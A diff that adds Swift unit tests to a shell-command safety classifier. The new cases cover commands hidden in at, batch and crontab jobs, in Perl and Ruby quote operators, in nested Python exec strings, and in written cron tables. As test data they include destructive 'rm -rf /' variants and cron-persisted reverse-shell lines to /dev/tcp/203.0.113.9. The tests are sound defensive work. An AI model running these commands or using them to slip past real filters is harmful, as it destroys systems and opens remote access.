@@ -44,4 +44,43 @@ final class InnerDangerTests: XCTestCase {
             ("sh -c 'ls -l /srv'", .allow),
         ])
     }
+
+    /// A job handed to `at` or `crontab` in visible text is judged as if it ran now (found by
+    /// red-teaming); `at` with nothing feeding it reads the job from the SSH channel.
+    func testScheduledJobsKeepTheirWeight() {
+        assertVerdicts([
+            ("echo 'rm -rf /' | at now", .block(.rmRoot)),
+            ("at now + 1 minute <<< 'rm -rf /etc'", .block(.rmRecursiveSystemPath)),
+            ("printf 'rm -rf /usr\\n' | batch", .block(.rmRecursiveSystemPath)),
+            ("echo '* * * * * rm -rf /' | crontab -", .block(.rmRoot)),
+            ("crontab <<< '@reboot bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'", .block(.networkDevTcp)),
+            ("at now", .block(.shellReadsChannel)), ("echo /usr/local/bin/report | at now", .confirm(.scheduleChange)),
+            ("echo '0 3 * * * /usr/local/bin/backup' | crontab -", .confirm(.scheduleChange)),
+            ("at -f job.sh now", .confirm(.scheduleChange)), ("crontab -l", .allow), ("at -l", .allow),
+        ])
+    }
+
+    /// Perl's and Ruby's quote operators and strings that are code themselves (found by
+    /// red-teaming: `system qq(rm -rf /)` and `exec('…os.system("rm -rf /")')` were only inline code).
+    func testQuoteOperatorsAndNestedCodeStrings() {
+        assertVerdicts([
+            ("perl -e 'system qq(rm -rf /)'", .block(.rmRoot)), ("perl -e 'qx{rm -rf /etc}'", .block(.rmRecursiveSystemPath)),
+            ("ruby -e 'system(%q(rm -rf /))'", .block(.rmRoot)), ("ruby -e '%x(rm -rf /usr)'", .block(.rmRecursiveSystemPath)),
+            ("python3 -c \"exec('import os\\nos.system(\\\"rm -rf /\\\")')\"", .block(.rmRoot)),
+            ("perl -e 'system(q(ls -la))'", .confirm(.interpreterInlineCode)),
+            ("perl -e 'print qq(hello world)'", .confirm(.interpreterInlineCode)),
+        ])
+    }
+
+    /// Cron tables written with visible entries are judged by those entries (found by
+    /// red-teaming: `echo '* * * * * root rm -rf /' | sudo tee /etc/crontab` was a confirmation).
+    func testCronTablesWrittenWithVisibleEntries() {
+        assertVerdicts([
+            ("echo '* * * * * root rm -rf /' | sudo tee /etc/crontab", .block(.rmRoot)),
+            ("echo '*/5 * * * * root rm -rf /etc' > /etc/cron.d/x", .block(.rmRecursiveSystemPath)),
+            ("printf '@reboot root bash -i >& /dev/tcp/203.0.113.9/80 0>&1\\n' >> /etc/cron.d/y", .block(.networkDevTcp)),
+            ("cat > /var/spool/cron/crontabs/root <<'EOF'\n* * * * * rm -rf /usr\nEOF", .block(.rmRecursiveSystemPath)),
+            ("echo '0 3 * * * root /usr/local/bin/backup' > /etc/cron.d/backup", .confirm(.filesystemSystemPathWrite)),
+        ])
+    }
 }
